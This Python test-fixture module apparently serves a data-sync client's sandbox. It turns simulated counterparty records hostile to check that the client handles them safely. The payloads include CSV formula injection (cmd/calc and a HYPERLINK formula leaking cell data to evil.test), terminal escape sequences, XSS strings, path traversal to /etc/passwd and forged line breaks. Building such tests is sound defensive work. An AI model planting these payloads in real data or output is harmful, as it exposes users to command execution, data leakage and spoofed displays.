"""`diligence sandbox --hostile`: counterparty data written to attack its readers.

`make_hostile` turns a built world into one whose first namespace's connections carry
hostile text, and whose last namespace (when there are two or more) serves an answer
the client must refuse:

* **company names** (endpoints 4, 5, 6), **Input answers** (7) and **document names**
  (10, and the file name of the download) cycle through `HOSTILE_TEXTS`: spreadsheet
  formulas, ANSI/OSC escape sequences, HTML, markdown links and images, path traversal
  and absolute paths;
* one document of the first namespace is padded to `OVERSIZE_FILE_BYTES`, so a
  `max_download_bytes` below that refuses it (the other documents still download),
  and the file of another answers 404 with that message;
* the messages of 403 and 404 answers (which become `sync_issues` rows and are
  shown by `diligence status`) carry escape sequences and markup (`hostile_error`);
* one connection of the last namespace answers its company details (endpoint 4) with
  JSON nested `DEEP_NESTING` levels deep, past the client's limit, so that namespace
  fails with one line and keeps its previous data.

Only connections that belong to no other namespace are changed, so the first
namespace's hostile text and the last namespace's failure stay apart.
"""

from __future__ import annotations

from typing import Any

import orjson

from sandbox import edits
from sandbox import generate as gen
from sandbox.world import World

__all__ = ["DEEP_NESTING", "HOSTILE_ERROR", "HOSTILE_TEXTS", "OVERSIZE_FILE_BYTES", "hostile_error",
           "make_hostile"]

HOSTILE_TEXTS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed =1+1",
    "\x1b[31mRed\x1b[0m \x1b[2J cleared",
    "\x1b]8;;http://evil.test\x07click me\x1b]8;;\x07",
    "\x1b]0;owned title\x07 title",
    "<img src=x onerror=alert(1)> Img",
    "<script>alert('x')</script> Script",
    "[x](http://evil.test) ![i](http://evil.test/p.png) Link",
    "[link=http://evil.test]rich[/link] [red]markup[/red]",
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "line one\nline two\r\nforged: line",
)
#: appended to the message of every 403 and 404 answer
HOSTILE_ERROR = " \x1b[2J\x1b]8;;http://evil.test\x07[link=http://evil.test]see[/link]\x1b]8;;\x07\r\nforged"
#: containers nested this deep in one company's details (the client refuses > 64)
DEEP_NESTING = 100
#: bytes of padding of one document file
OVERSIZE_FILE_BYTES = 1024 * 1024


def _own_connections(world: World, ns_id: str) -> list[str]:
    """Connections of `ns_id` that no other namespace lists, in order."""
    others = {cid for other in world.namespaces if other != ns_id
              for cid in world.namespace(other).by_id}  # type: ignore[union-attr]
    return [c.company_id for c in world.namespace(ns_id).connections  # type: ignore[union-attr]
            if c.company_id not in others and c.company_id not in world.namespaces]


def _nested(depth: int) -> Any:
    value: Any = []
    for _ in range(depth - 1):
        value = [value]
    return value


def hostile_error(result: tuple[int, bytes, Any]) -> tuple[int, bytes, Any]:
    """A sandbox error result whose ``{"message"}`` ends with `HOSTILE_ERROR`, its
    control characters raw (not JSON-escaped), as a careless or hostile service sends."""
    status, body, headers = result
    message = str(orjson.loads(body).get("message", ""))
    return status, f'{{"message": "{message}{HOSTILE_ERROR}"}}'.encode(), headers


def make_hostile(world: World) -> World:
    """Give `world` hostile text and refusable answers (see the module docstring)."""
    namespaces = world.namespaces
    texts = iter(HOSTILE_TEXTS * 1000)
    first = namespaces[0]
    for company_id in _own_connections(world, first):
        world.companies[company_id]["name"] = next(texts)
    padded = missing = False
    for company_id, type_id in world.readable_pairs(first):
        if company_id not in world.companies or company_id == first:
            continue
        for spec in world.templates[type_id].fields:
            if spec.type == gen.INPUT:
                edits.set_answer(world, company_id, type_id, spec.id, {"value": next(texts)})
        for doc in world.documents(company_id, type_id):
            edits.update_document(world, doc["id"], set_fields={"name": next(texts)})
            if not padded:
                world.file_padding[doc["id"]] = OVERSIZE_FILE_BYTES
                padded = True
            elif not missing:
                world.missing_files.add(doc["id"])
                missing = True
    if len(namespaces) > 1:
        deep = _own_connections(world, namespaces[-1])[0]
        world.companies[deep]["extra"] = _nested(DEEP_NESTING)
    world.hostile = True
    return world
